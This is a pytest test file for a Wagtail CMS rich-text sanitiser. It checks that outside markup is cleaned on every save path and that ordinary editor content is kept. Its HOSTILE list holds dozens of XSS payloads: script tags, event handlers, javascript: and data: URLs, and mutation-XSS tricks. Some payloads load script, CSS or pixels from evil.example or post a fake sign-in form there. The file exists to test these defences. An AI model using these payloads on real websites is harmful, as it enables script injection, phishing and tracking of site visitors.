"""Markup from outside: nothing that runs, loads or disguises gets through, in whatever way it comes in."""

import json
import re
from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from wagtail.admin.rich_text.converters.contentstate import ContentstateConverter
from wagtail.rich_text import RichText

from cms import sanitising
from cms.blocks import FEATURES, SafeRichTextBlock
from cms.models import ModulePage
from cms.sanitising import plain_text_to_html, sanitise_rich_text
from tests import cast

CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
TAGS = {
    "a",
    "b",
    "strong",
    "i",
    "em",
    "br",
    "code",
    "sub",
    "sup",
    "p",
    "h2",
    "h3",
    "h4",
    "ul",
    "ol",
    "li",
    "hr",
    "blockquote",
    "embed",
}
ATTRIBUTES = {"href", "linktype", "id", "title", "embedtype", "format", "alt", "url", "rel"}


class Findings(HTMLParser):
    """What a reader of the markup would act on: its tags, its attributes, where its addresses lead."""

    def __init__(self, html: str):
        super().__init__()
        self.found: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        if tag not in TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name not in ATTRIBUTES:
                self.found.append(f"{tag} {name}")
            scheme = re.match(r"\s*([a-z0-9+.\-]+):", value or "", re.IGNORECASE) if name in ("href", "url") else None
            if scheme and scheme[1].lower() not in ("http", "https", "mailto", "tel"):
                self.found.append(f"{name}={value}")

    def handle_comment(self, data):
        self.found.append("a comment")

    handle_decl = handle_pi = unknown_decl = handle_comment


def dangers(html: str) -> list[str]:
    return Findings(html).found + CONTROL.findall(html)


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script x>",
    "<img src=x onerror=alert(1)>",
    "<p onclick='alert(1)'>x</p>",
    "<p/onmouseover=alert(1)>x</p>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><img src=x onerror=alert(1)></template>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='https://ok.example' style='position:fixed;inset:0'>x</a>",
    "<a href='https://ok.example' target=_blank class=cg-call>x</a>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='background:url(https://evil.example/pixel)'>x</p>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src='https://evil.example/x.swf'>",
    "<embed embedtype='media' url='javascript:alert(1)'/>",
    "<embed embedtype='image' id='1' onload='alert(1)' style='x'/>",
    "<embed embedtype='<script>' id='x'/>",
    "<base href='https://evil.example/'><link rel=stylesheet href=x><meta http-equiv=refresh content='0;url=//evil'>",
    "<form action='https://evil.example'><input name=code><button>Sign in</button></form>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<textarea><script>alert(1)</script></textarea>",
    "<p>\x00<scr\x00ipt>alert(1)</scr\x00ipt></p>",
    "<b><b><b><i><p><script>alert(1)</script></p></i></b></b></b>",
    "<" * 50 + "script>alert(1)",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<a title='--><img src=x onerror=alert(1)>' href=/>x</a>",
]
KEPT = [
    "<p>Places <b>matter</b>, <i>really</i>.</p>",
    '<p><a href="https://example.org/">away</a> <a href="mailto:a@b.example">write</a> <a href="tel:999">call</a></p>',
    '<p><a href="/worried/">Worried?</a> <a href="#first">up</a></p>',
    '<p><a linktype="page" id="3">a page of ours</a></p>',
    '<p><a linktype="document" id="12">a document of ours</a></p>',
    '<embed embedtype="image" id="10" format="left" alt="A park"/>',
    '<embed embedtype="media" url="https://video.example/1"/>',
    "<h2>One</h2><h3>Two</h3><ul><li>a</li></ul><ol><li>b</li></ol><hr/><blockquote>c</blockquote>",
    "<p>one<br/>two</p><p></p><p>three</p>",
    "<ul><li>a<ol><li>b</li><li>c</li></ol></li><li>d</li></ul>",
    '<p><a href="/a/">one</a><a href="/a/">two</a> <b>x<i>y</i></b></p>',
    "<p>5 &lt; 6 &amp; 7 &gt; 2</p>",
    "<p>Ynys Môn, Ngũgĩ, 小, 🌳, “quotes”</p>",
]


@pytest.mark.parametrize("html", HOSTILE)
@pytest.mark.parametrize("sanitise", [sanitise_rich_text, plain_text_to_html])
def test_nothing_hostile_is_left(html, sanitise):
    assert dangers(sanitise(html)) == []


@pytest.mark.parametrize("html", KEPT)
def test_what_an_editor_writes_stays_as_it_is(html):
    assert sanitise_rich_text(html) == html


@pytest.mark.parametrize(
    ("html", "clean"),
    [
        ('<a linktype="page" id="3 OR 1=1">x</a>', "<p>x</p>"),
        ('<a linktype="page" id="99999999999999999999">x</a>', "<p>x</p>"),
        ('<a linktype="page" id="٣">x</a>', "<p>x</p>"),
        ('<a linktype="javascript" id="3">x</a>', "<p>x</p>"),
        ('<a linktype="page" id="3" href="https://evil.example/">x</a>', '<p><a linktype="page" id="3">x</a></p>'),
        ('<a id="main">x</a>', "<p>x</p>"),
        ('<p id="main" name="x">x</p>', "<p>x</p>"),
        ("<p>before<script>alert('words')</script>after</p>", "<p>beforeafter</p>"),
        ("<h1>Big</h1>", "<p>Big</p>"),
        ('<embed embedtype="image" alt="no number"/>', ""),
        ("<p>a\ud800b</p>", "<p>ab</p>"),
        ("", ""),
    ],
)
def test_what_is_taken_out(html, clean):
    assert sanitise_rich_text(html) == clean


ATTRIBUTE = st.builds(
    " {}={}".format,
    st.sampled_from(["href", "id", "linktype", "embedtype", "title", "alt", "url", "onclick", "style", "src"]),
    st.sampled_from(
        [
            '"3"',
            '"page"',
            '"image"',
            "'a>b'",
            '"a/>b"',
            '"&quot;>"',
            "javascript:x",
            '"https://a.example/?a=1&b=2"',
            "''",
        ]
    ),
)
TAG = st.builds(
    "<{}{}{}>".format,
    st.sampled_from(
        [
            "p",
            "/p",
            "b",
            "/b",
            "a",
            "/a",
            "embed",
            "ul",
            "li",
            "/ul",
            "script",
            "/script",
            "svg",
            "style",
            "/style",
            "math",
            "table",
            "td",
            "/li",
            "ol",
            "/ol",
            "h2",
            "/h2",
            "h4",
            "blockquote",
            "/blockquote",
            "i",
            "em",
            "/em",
            "sup",
            "br",
            "hr",
            "!--",
            "--",
            "select",
            "option",
            "template",
            "form",
            "noscript",
        ]
    ),
    st.lists(ATTRIBUTE, max_size=2).map("".join),
    st.sampled_from(["", " /", "/"]),
)
HTML = st.lists(
    st.one_of(
        TAG,
        st.sampled_from(["&amp;", "&lt;script&gt;", "<", ">", '"', "&#106;", "\x00", "text", "-->", "]]>", " ", "\n"]),
        st.sampled_from(["&nbsp;", "&#1;", "&#13;", "\ud83c", "it's", "小"]),
    ),
    max_size=12,
).map("".join)


@settings(deadline=None, max_examples=300)
@given(HTML)
@example('<embed embedtype="image" id="1" alt="a>b"/>')
def test_sanitising_twice_is_sanitising_once(html):
    once = sanitise_rich_text(html)
    assert sanitise_rich_text(once) == once


@settings(deadline=None, max_examples=300)
@given(HTML)
def test_nothing_hostile_is_made_from_pieces(html):
    assert dangers(sanitise_rich_text(html)) == []


# --- What passes opens in the editor --------------------------------------------------------------

FEATURE_SETS = [FEATURES, ["bold", "link"], ["bold", "ul", "ol", "link"], ["bold", "ul", "ol", "link", "document-link"]]
SHAPES = [
    # (what comes in, what is stored)
    ("before<br>after", "<p>before<br/>after</p>"),
    ("<p>one<br>two<br><br>three</p>", "<p>one<br/>two<br/><br/>three</p>"),
    ("<p>above</p><br><p>below</p>", "<p>above</p><p>below</p>"),
    ("<h3>Kiosk<br>and quay</h3>", "<h3>Kiosk<br/>and quay</h3>"),
    ("<hr>", "<hr/>"),
    ("<p><b>a<hr>b</b></p>", "<p><b>a</b></p><hr/><p><b>b</b></p><p></p>"),
    ("<ul><li>a<hr>b</li></ul>", "<ul><li>a</li></ul><hr/><ul><li>b</li></ul>"),
    ("<li>first<li>second", "<ul><li>first</li><li>second</li></ul>"),
    ("<p>x</p><li>alone</li>words", "<p>x</p><ul><li>alone</li></ul><p>words</p>"),
    ("<ul>words<li>item</li></ul>", "<ul><li>words</li><li>item</li></ul>"),
    ("<ul><ol><li>deep</li></ol></ul>", "<ul><li><ol><li>deep</li></ol></li></ul>"),
    ("<ol><li>a<ul><li>b</ul>c</ol>", "<ol><li>a<ul><li>b</li></ul></li><li>c</li></ol>"),
    ("<p>a<ul><li>b</li></ul>c</p>", "<p>a</p><ul><li>b</li></ul><p>c</p><p></p>"),
    ("<ul><li><h2>Head</h2><p>and words</p></li></ul>", "<ul><li>Head<br/>and words</li></ul>"),
    ("<blockquote><p>a</p><p>b</p></blockquote>", "<blockquote>a<br/>b</blockquote>"),
    ("<b>a<p>b</b>c", "<p><b>a</b></p><p><b>b</b>c</p>"),
    ("<p><b>a<i>b</b>c</i></p>", "<p><b>a<i>b</i></b><i>c</i></p>"),
    ("<p><b>a<strong>b<b>c</b></strong></b></p>", "<p><b>a<strong>bc</strong></b></p>"),
    ("<a href='/a/'><p>one</p><p>two</p></a>", '<p><a href="/a/">one</a></p><p><a href="/a/">two</a></p>'),
    ("<a href='/a/'>one<a href='/b/'>two</a></a>", '<p><a href="/a/">one</a><a href="/b/">two</a></p>'),
    ("<p>a<embed embedtype='image' id='7' alt='Quay'>b</p>",
     '<p>a</p><embed embedtype="image" id="7" alt="Quay" format="fullwidth"/><p>b</p>'),
    ("<p>it's “5 < 6” & more", "<p>it's “5 &lt; 6” &amp; more</p>"),
]  # fmt: skip


def opened(html: str, features=FEATURES) -> str:
    """What Wagtail's editor would store if somebody opened the text and saved it. Raises if it cannot be opened."""
    converter = ContentstateConverter(features)
    return converter.to_database_format(converter.from_database_format(html))


def words(html: str) -> str:
    """The text that is read, without its spaces."""
    text: list[str] = []
    reader = HTMLParser()
    reader.handle_data = text.append
    reader.feed(html)
    reader.close()
    return "".join("".join(text).split())


@pytest.mark.parametrize(("html", "stored"), SHAPES)
def test_every_shape_gets_the_form_that_the_editor_knows(db, html, stored):
    assert sanitise_rich_text(html) == stored
    assert sanitise_rich_text(stored) == stored
    assert words(opened(stored)) == words(stored)


@pytest.mark.django_db
@settings(deadline=None, max_examples=400)
@given(HTML, st.sampled_from(FEATURE_SETS))
def test_whatever_passes_opens_in_the_editor_and_is_shown(html, features):
    safe = sanitise_rich_text(html)
    assert words(opened(safe, features)) == words(safe)
    str(RichText(safe))
    list(SafeRichTextBlock().extract_references(RichText(safe)))


@pytest.mark.parametrize("features", [["bold", "ul"], ["ol", "link"]])
@pytest.mark.parametrize("html", ["<ul><li>quay</li></ul>", "<ol><li>quay</li></ol>"])
def test_an_editor_with_one_kind_of_list_opens_the_other(features, html):
    block = SafeRichTextBlock(features=features)
    assert "quay" in block.get_form_state(block.to_python(html))


@settings(deadline=None, max_examples=400)
@given(HTML)
def test_no_word_is_lost_by_the_form(html):
    assert words(sanitise_rich_text(html)) == words(sanitising._clean(html, tags=TAGS, attributes=sanitising.WAGTAIL))


# --- Plain words ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("One.\n\nTwo.", "<p>One.</p><p>Two.</p>"),
        ("One.\r\nTwo.", "<p>One.<br>Two.</p>"),
        ("  \n\n ", ""),
        ("5 < 6 & 7", "<p>5 &lt; 6 &amp; 7</p>"),
        ("<b>bold</b>", "<p>&lt;b&gt;bold&lt;/b&gt;</p>"),
    ],
)
def test_plain_words_become_paragraphs(text, html):
    assert plain_text_to_html(text) == html


@pytest.mark.parametrize(
    ("text", "href"),
    [
        ("see www.council.example/a?b=1", "https://www.council.example/a?b=1"),
        ("http://old.example", "http://old.example"),
    ],
)
def test_web_addresses_become_links(text, href):
    html = plain_text_to_html(text.replace(".example", ".org"))
    assert f'href="{href.replace(".example", ".org")}"' in html
    assert 'rel="noopener"' in html


def test_an_address_to_run_does_not_become_a_link():
    assert "<a" not in plain_text_to_html("javascript:alert(1) data:text/html,x")


# --- Every way in ---------------------------------------------------------------------------------

BAD = "<p>fine<script>alert(1)</script><img src=x onerror=alert(2)></p>"


@pytest.mark.parametrize("value", [BAD, RichText(BAD)])
def test_the_block_cleans_what_the_editor_posts_and_what_is_stored(value):
    block = SafeRichTextBlock()
    as_value = block.to_python(value) if isinstance(value, str) else value
    assert block.clean(as_value).source == "<p>fine</p>"
    assert block.get_prep_value(value) == "<p>fine</p>"


def stored(page) -> str:
    return ModulePage.objects.values_list("steps", flat=True).get(pk=page.pk).get_prep_value()[0]["value"]["body"]


@pytest.fixture
def page(db):
    module = cast.module()
    module.steps = [("text", {"title": "T", "body": "<p>fine</p>"}), cast.STEPS[-1]]
    module.save()
    return ModulePage.objects.get(pk=module.pk)


def test_a_page_made_in_code_is_cleaned_when_saved(page):
    page.steps = [("text", {"title": "T", "body": RichText(BAD)})]
    page.save()
    assert stored(page) == "<p>fine</p>"


def test_a_page_whose_raw_json_is_given_is_cleaned_when_saved(page, client):
    """An import or a restored revision brings the JSON itself; no block has looked at it yet."""
    page.steps = json.dumps(
        [{"type": "text", "id": "ab12cd34-0000-0000-0000-000000000000", "value": {"title": "T", "body": BAD}}]
    )
    page.save()
    assert stored(page) == "<p>fine</p>"


def test_a_page_restored_from_a_revision_is_cleaned(page):
    revision = page.save_revision()
    content = revision.content
    steps = json.loads(content["steps"])
    steps[0]["value"]["body"] = BAD
    revision.content = {**content, "steps": json.dumps(steps)}
    revision.save()
    revision.publish()
    assert stored(page) == "<p>fine</p>"
